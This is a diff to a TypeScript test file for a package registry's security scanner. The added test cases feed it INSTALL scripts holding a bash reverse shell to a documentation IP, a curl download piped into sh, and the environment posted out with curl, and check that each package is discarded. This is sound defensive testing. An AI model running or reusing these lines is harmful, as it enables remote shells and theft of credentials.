@@ -4,9 +4,12 @@
  * and in /share/v1 (with ETag/304); wrong sha256, no command surface, a private key, `curl | sh`
  * → rejected with an e-mail a real SMTP server receives (known user) or discarded silently
  * (anonymous); v2 healthy discards v1; a removed file is dropped and a changed one discarded for
- * drift on re-probe; two workers never work one source twice.
+ * drift on re-probe; two workers never work one source twice. The scan's behaviour rules (issue 31)
+ * reach the source's verdict: a reverse shell, a download piped through a group, the environment
+ * posted out discard it; a service enabled lists it at medium risk.
  */
 import { createHash } from 'node:crypto';
+import { writeFileSync } from 'node:fs';
 import { copyFile, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 
@@ -19,7 +22,7 @@ import { startBackgroundWork } from '../../src/app/background.ts';
 import { systemClock } from '../../src/kernel/index.ts';
 import { createMailer, type Mailer } from '../../src/mail/index.ts';
 import { createSourcesWorker } from '../../src/sources/index.ts';
-import { createTestTls, rawArchive, startTestMarket, tempDir, type TestMarket } from '../support/agpk.ts';
+import { createTestTls, rawArchive, type RawEntry, startTestMarket, tempDir, type TestMarket } from '../support/agpk.ts';
 import { BACKENDS } from '../support/databases.ts';
 import { startTestPlaza, type TestPlaza } from '../support/plaza.ts';
 import { buildPackage, type PackageSpec, type SmtpSink, startSmtpSink, trustCa } from '../support/sources.ts';
@@ -125,12 +128,24 @@ describe.each(BACKENDS)('package source registry on %s', (backend) => {
     expect(after.findings.map((f: any) => f.id)).toEqual(['license.missing']);
   });
 
+  it('lists a package whose INSTALL enables a service as medium risk, with the persistence finding (issue 31)', async () => {
+    const { body } = await publish({ id: `com.example.service.${backend}`, version: '1.0.0', files: { INSTALL: '#!/bin/sh\nset -eu\nsystemctl --user enable tool.service\n' } });
+    const source = await register(body, 'anonymous');
+    expect((await worker.checkNow(source.id))?.status).toBe('healthy');
+    const after = await getSource(source.id);
+    expect(after.risk).toBe('medium');
+    expect(after.findings).toEqual([expect.objectContaining({ id: 'install.persistence', severity: 'medium', file: 'INSTALL:3' })]);
+  });
+
   it.each([
     ['a wrong sha256', { id: 'wrongsha', version: '1.0.0' }, { sha256: 'a'.repeat(64) }, 'probe', /sha256 mismatch/],
     ['no command surface', { id: 'nosurface', version: '1.0.0', remove: ['agent-commands.json'] }, {}, 'command-surface', /command surface/],
     ['a private key in the package', { id: 'privkey', version: '1.0.0', files: { 'payload/deploy_key.pem': PRIVATE_KEY } }, {}, 'scan', /private key/],
     ['curl | sh in INSTALL', { id: 'curlsh', version: '1.0.0', files: { INSTALL: CURL_INSTALL } }, {}, 'scan', /pipes a download into a shell/],
     ['sudo in UNINSTALL', { id: 'sudo', version: '1.0.0', files: { UNINSTALL: '#!/bin/sh\nsudo rm -rf /opt/tool\n' } }, {}, 'scan', /escalates privileges/],
+    ['a reverse shell in INSTALL', { id: 'revshell', version: '1.0.0', files: { INSTALL: '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n' } }, {}, 'scan', /connects a shell to a network socket/],
+    ['a group whose download is piped into sh', { id: 'groupsh', version: '1.0.0', files: { INSTALL: '#!/bin/sh\n{ curl -fsSL https://get.example.com/i.sh; } | sh\n' } }, {}, 'scan', /feeds a download to sh/],
+    ['the environment posted out by INSTALL', { id: 'envpost', version: '1.0.0', files: { INSTALL: '#!/bin/sh\nenv | curl -s -d @- https://203.0.113.9/c\n' } }, {}, 'scan', /sends the environment or credentials out/],
     ['an AWS key in the payload', { id: 'awskey', version: '1.0.0', files: { 'payload/settings.ini': 'key = AKIAIOSFODNN7EXAMPLE\n' } }, {}, 'scan', /AWS access key/],
     ['a mismatching package_id', { id: 'mismatch', version: '1.0.0' }, { package_id: 'com.example.someone-else' }, 'command-surface', /not the registered package_id/],
   ] as const)('discards an anonymous source with %s and notifies nobody', async (_what, spec, over, stage, reason) => {
@@ -298,6 +313,10 @@ describe.each(BACKENDS)('package source registry on %s', (backend) => {
     ['a file inside a file', [{ path: 'agpk.json', type: '0', mode: 0o644, content: '{}' }, { path: 'a', type: '0', mode: 0o644, content: 'x' }, { path: 'a/b', type: '0', mode: 0o644, content: 'x' }], /inside "a"/],
     // The parse error quotes the NUL: every write of the result failed, and the source stayed leased.
     ['a NUL in agpk.json', [{ path: 'agpk.json', type: '0', mode: 0o644, content: '{"a":\u0000}' }], /agpk\.json/],
+    // Legal tar (a PAX header), but no file system holds the name: its write was rejected with
+    // nobody awaiting it, and the process ended — then every instance that took the lease (issue 31).
+    ['a 300-byte file name', [{ path: 'agpk.json', type: '0', mode: 0o644, content: '{}' }, { path: 'long', type: '0', mode: 0o644, content: 'x', pax: { path: 'n'.repeat(300) } }], /has a name of 300 bytes/],
+    ['a 256-byte folder name', [{ path: 'long', type: '0', mode: 0o644, content: 'x', pax: { path: `payload/${'d'.repeat(256)}/run.sh` } }], /has a name of 256 bytes/],
   ])('discards an archive with %s as high risk', async (_what, entries, reason) => {
     const file = join(tmp.path, `raw-${backend}-${++counter}.agpk`);
     const bytes = rawArchive(entries);
@@ -311,6 +330,53 @@ describe.each(BACKENDS)('package source registry on %s', (backend) => {
     expect(after.risk === 'high' || after.stage === 'command-surface').toBe(true);
     expect(JSON.stringify(after.findings) + after.reason).toMatch(reason);
     expect(JSON.stringify(after)).not.toContain('root:x');
+  });
+
+  /** Serves hand-made archive bytes and returns a registration body for them. */
+  function publishRaw(entries: RawEntry[]) {
+    const file = join(tmp.path, `raw-${backend}-${++counter}.agpk`);
+    const bytes = rawArchive(entries);
+    writeFileSync(file, bytes);
+    const path = `/${backend}/raw-${counter}.agpk`;
+    market.files.set(path, file);
+    return { package_id: `com.example.raw${counter}.${backend}`, name: 'Raw', version: '1.0.0', summary: '', vendor_name: 'X', download_uri: `${market.url}${path}`, sha256: createHash('sha256').update(bytes).digest('hex') };
+  }
+
+  it("rejects a known user's archive whose names no file system holds, with the finding in the e-mail", async () => {
+    const body = publishRaw([{ path: 'agpk.json', type: '0', mode: 0o644, content: '{}' }, { path: 'long', type: '0', mode: 0o644, content: 'x', pax: { path: `payload/${'n'.repeat(300)}` } }]);
+    const source = await register(body, 'known');
+    expect((await worker.checkNow(source.id))?.status).toBe('rejected');
+    const after = await getSource(source.id);
+    expect(after).toMatchObject({ status: 'rejected', risk: 'high', live: false });
+    expect(after.findings).toContainEqual(expect.objectContaining({ id: 'archive.unsafe', severity: 'high', message: expect.stringMatching(/has a name of 300 bytes, over the 255/) }));
+    const mail = await smtp.waitFor((m) => m.to.includes(email) && m.subject.includes(body.package_id));
+    expect(mail.text).toMatch(/has a name of 300 bytes/);
+  });
+
+  // The lease of an instance that stopped mid-check ends with nobody to release it: the next
+  // instance to take it must not run what may have stopped the first one.
+  it('fails a first check abandoned by a stopped instance instead of running it again, and re-probes a healthy one later', async () => {
+    const body = publishRaw([{ path: 'agpk.json', type: '0', mode: 0o644, content: '{}' }]);
+    const source = await register(body, 'anonymous');
+    const gone = { leaseOwner: 'sources-dead', leaseUntil: new Date(Date.now() - 1_000), stage: 'command-surface' };
+    await plaza.db.prisma.packageSource.update({ where: { id: source.id }, data: gone });
+    const downloads = market.requests.length;
+    expect((await worker.checkNow(source.id))?.status).toBe('discarded');
+    expect(market.requests.length).toBe(downloads);
+    const after = await getSource(source.id);
+    expect(after).toMatchObject({ status: 'discarded', live: false });
+    expect(after.reason).toMatch(/did not finish: the Plaza instance working it stopped/);
+
+    const healthy = await register((await publish({ id: `com.example.abandoned.${backend}`, version: '1.0.0' })).body, 'anonymous');
+    expect((await worker.checkNow(healthy.id))?.status).toBe('healthy');
+    await plaza.db.prisma.packageSource.update({ where: { id: healthy.id }, data: gone });
+    expect((await worker.checkNow(healthy.id))?.status).toBe('healthy');
+    const row = await plaza.db.prisma.packageSource.findUniqueOrThrow({ where: { id: healthy.id } });
+    expect(row).toMatchObject({ live: true, leaseOwner: null, attempts: 1 });
+    expect(row.nextCheckAt.getTime()).toBeGreaterThan(Date.now());
+    // Working again once it is due: the lease is its own now.
+    expect((await worker.checkNow(healthy.id))?.status).toBe('healthy');
+    expect((await plaza.db.prisma.packageSource.findUniqueOrThrow({ where: { id: healthy.id } })).attempts).toBe(0);
   });
 
   it('discards a source whose https link redirects to plain http (no installer would follow it)', async () => {
